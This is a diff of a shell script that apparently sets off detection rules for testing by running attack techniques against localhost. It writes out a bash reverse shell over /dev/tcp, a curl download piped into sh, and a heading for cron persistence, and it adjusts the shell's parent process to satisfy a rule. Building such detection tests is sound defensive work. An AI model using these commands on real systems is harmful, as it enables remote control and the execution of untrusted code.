@@ -17,8 +17,10 @@ c,_=s.accept(); c.sendall(b'exit\n'); c.settimeout(2)
 try: c.recv(100)
 except Exception: pass" & LISTENER=$!
 for _ in $(seq 100); do curl -s -o /dev/null http://127.0.0.2:18191/ && break; sleep 0.1; done
-# reverse shell through a background process
-timeout 10 nohup bash -c 'bash -i >& /dev/tcp/127.0.0.1/18192 0>&1' >/dev/null 2>&1
+for _ in $(seq 100); do ss -Hltn 'sport = :18192' | grep -q . && break; sleep 0.1; done
+# reverse shell through a background process, started by this shell (the rule wants a shell parent);
+# the listener sends `exit`, so it ends by itself
+nohup bash -c 'bash -i >& /dev/tcp/127.0.0.1/18192 0>&1' >/dev/null 2>&1
 # download piped to a shell
 curl -s http://127.0.0.2:18191/payload.sh | sh >/dev/null
 # cron persistence
